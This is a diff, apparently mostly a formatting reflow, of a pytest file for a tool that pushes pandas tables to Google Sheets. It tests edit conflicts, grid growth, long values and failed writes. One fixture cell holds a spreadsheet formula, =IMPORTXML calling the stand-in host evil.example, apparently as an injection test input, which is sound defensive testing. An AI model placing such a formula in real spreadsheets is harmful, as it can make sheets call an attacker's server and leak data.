@@ -21,21 +21,24 @@ SID = "oversikt-1"
 
 def seed_tables(rows: int = 5000) -> dict[str, pd.DataFrame]:
     """Three made-up overview tables; one long, with every dtype push must handle."""
-    insatser = pd.DataFrame({
-        "Insats": [f"Insats {i}" for i in range(rows)],
-        "Förbund": ["Samordningsförbundet Test"] * rows,
-        "Beviljat (kr)": [1_000_000 + i for i in range(rows)],
-        "Utfall (kr)": [85000.5 + i for i in range(rows)],
-        "Period t.o.m.": [date(2024, 3, 31)] * rows,
-    })
-    budget = pd.DataFrame({
-        "Kostnadsslag": ["Lönekostnader", "Lokalkostnader", "Övrigt"],
-        "Budget": [Decimal("1600000.00"), Decimal("240000.50"), None],
-        "Kommentar": ["=IMPORTXML(\"http://evil.example\",\"//a\")", "", "ok"],
-        "Från": pd.to_datetime(["2024-01-01", "2024-02-01", None]),
-    })
-    avvikelser = pd.DataFrame({"Insats": ["A", "B"], "Antal": [1, 2],
-                               "Godkänd": [True, False]})
+    insatser = pd.DataFrame(
+        {
+            "Insats": [f"Insats {i}" for i in range(rows)],
+            "Förbund": ["Samordningsförbundet Test"] * rows,
+            "Beviljat (kr)": [1_000_000 + i for i in range(rows)],
+            "Utfall (kr)": [85000.5 + i for i in range(rows)],
+            "Period t.o.m.": [date(2024, 3, 31)] * rows,
+        }
+    )
+    budget = pd.DataFrame(
+        {
+            "Kostnadsslag": ["Lönekostnader", "Lokalkostnader", "Övrigt"],
+            "Budget": [Decimal("1600000.00"), Decimal("240000.50"), None],
+            "Kommentar": ['=IMPORTXML("http://evil.example","//a")', "", "ok"],
+            "Från": pd.to_datetime(["2024-01-01", "2024-02-01", None]),
+        }
+    )
+    avvikelser = pd.DataFrame({"Insats": ["A", "B"], "Antal": [1, 2], "Godkänd": [True, False]})
     return {"Översikt": insatser, "Budget": budget, "Avvikelser": avvikelser}
 
 
@@ -86,8 +89,9 @@ def test_round_trip_gives_identical_tables(standin: StandIn, client: SheetsClien
     assert budget["Från"].tolist()[:2] == [date(2024, 1, 1), date(2024, 2, 1)]
 
 
-def test_second_push_over_unchanged_sheet_is_allowed(standin: StandIn,
-                                                     client: SheetsClient) -> None:
+def test_second_push_over_unchanged_sheet_is_allowed(
+    standin: StandIn, client: SheetsClient
+) -> None:
     standin.create_book(SID)
     push_tables(client, SID, seed_tables(10))
     sheet_id = standin.books[SID].sheet_by_title("Översikt").id
@@ -97,8 +101,9 @@ def test_second_push_over_unchanged_sheet_is_allowed(standin: StandIn,
     assert standin.books[SID].sheet_by_title("Översikt").id == sheet_id  # links keep working
 
 
-def test_edited_sheet_is_refused_then_overwritten_with_force(standin: StandIn,
-                                                            client: SheetsClient) -> None:
+def test_edited_sheet_is_refused_then_overwritten_with_force(
+    standin: StandIn, client: SheetsClient
+) -> None:
     standin.create_book(SID)
     push_tables(client, SID, seed_tables(10))
     standin.edit(SID, "Budget!B2", "999")
@@ -117,15 +122,17 @@ def test_edit_racing_the_push_is_caught(standin: StandIn, client: SheetsClient) 
     standin.create_book(SID)
     push_tables(client, SID, seed_tables(10))
     # Someone types while the values are being staged, after push first read the sheet.
-    standin.hooks.append(("drive.files.get",
-                          lambda s: s.edit(SID, "'Översikt'!A3", "ändrat av någon")))
+    standin.hooks.append(
+        ("drive.files.get", lambda s: s.edit(SID, "'Översikt'!A3", "ändrat av någon"))
+    )
     with pytest.raises(SheetsSyncError, match="ändrats sedan senaste push"):
         push_tables(client, SID, seed_tables(10))
     assert standin.books[SID].sheet_by_title("Översikt").cells[(2, 0)].value == "ändrat av någon"
 
 
-def test_foreign_sheet_with_same_title_is_never_touched(standin: StandIn,
-                                                       client: SheetsClient) -> None:
+def test_foreign_sheet_with_same_title_is_never_touched(
+    standin: StandIn, client: SheetsClient
+) -> None:
     standin.create_book(SID, sheets=("Budget",))
     standin.edit(SID, "Budget!A1", "personens egen budget")
     with pytest.raises(SheetsSyncError, match="skapades inte av finsam-xl"):
@@ -144,8 +151,9 @@ def test_grid_too_small_is_grown(standin: StandIn, client: SheetsClient) -> None
     assert sheet.cells[(3000, 0)].value == "Insats 2999"
 
 
-def test_value_over_50000_characters_is_cut_and_reported(standin: StandIn,
-                                                         client: SheetsClient) -> None:
+def test_value_over_50000_characters_is_cut_and_reported(
+    standin: StandIn, client: SheetsClient
+) -> None:
     standin.create_book(SID)
     long = pd.DataFrame({"Text": ["x" * 60_000, "kort"]})
     result = push_tables(client, SID, {"Långt": long})
@@ -168,8 +176,14 @@ def test_failed_write_leaves_the_sheet_as_it_was(standin: StandIn, client: Sheet
     push_tables(client, SID, seed_tables(10))
     version = standin.books[SID].version
     snapshot = dict(standin.books[SID].sheet_by_title("Översikt").cells)
-    standin.faults.append(Fault("sheets.spreadsheets.values.batchUpdate", status=502,
-                                body="<html><body>Bad Gateway</body></html>", times=99))
+    standin.faults.append(
+        Fault(
+            "sheets.spreadsheets.values.batchUpdate",
+            status=502,
+            body="<html><body>Bad Gateway</body></html>",
+            times=99,
+        )
+    )
     with pytest.raises(SheetsSyncError, match="502") as err:
         push_tables(client, SID, seed_tables(20))
     assert "<html>" not in str(err.value)
@@ -187,8 +201,9 @@ def test_final_step_timing_out_after_google_applied_it_counts_as_done(
     client.http.set_timeout(0.5)
     # First the staging batchUpdate passes; the final one is applied but answered too late.
     standin.faults.append(Fault("sheets.spreadsheets.batchUpdate", times=1, passthrough=True))
-    standin.faults.append(Fault("sheets.spreadsheets.batchUpdate", delay=1.0, times=1,
-                                passthrough=True))
+    standin.faults.append(
+        Fault("sheets.spreadsheets.batchUpdate", delay=1.0, times=1, passthrough=True)
+    )
     result = push_tables(client, SID, seed_tables(7))
     assert result.rows["Översikt"] == 7
     assert standin.books[SID].sheet_by_title("Översikt").rows == 8
